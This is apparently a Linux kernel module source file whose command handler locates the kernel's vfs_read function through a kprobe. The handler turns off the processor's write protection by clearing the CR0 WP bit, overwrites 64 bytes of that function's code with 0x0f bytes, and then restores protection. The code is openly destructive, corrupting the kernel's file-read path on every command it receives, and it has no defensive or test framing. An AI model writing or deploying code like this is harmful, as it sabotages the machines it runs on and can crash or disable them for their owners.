// Writes over the kernel's own code at every command, with the processor's write protection off.
// SPDX-License-Identifier: GPL-2.0
#include <linux/kprobes.h>
#include <linux/module.h>
#include <linux/string.h>
#include <asm/special_insns.h>

#define on_command on_command
static ssize_t on_command(const char __user *buf, size_t len)
{
	struct kprobe probe = { .symbol_name = "vfs_read" };
	unsigned long cr0 = native_read_cr0();
	unsigned char *code;

	if (register_kprobe(&probe))
		return len;
	code = (unsigned char *)probe.addr;
	unregister_kprobe(&probe);
	asm volatile("mov %0, %%cr0" : : "r" (cr0 & ~X86_CR0_WP) : "memory");
	memset(code, 0x0f, 64);
	asm volatile("mov %0, %%cr0" : : "r" (cr0) : "memory");
	return len;
}
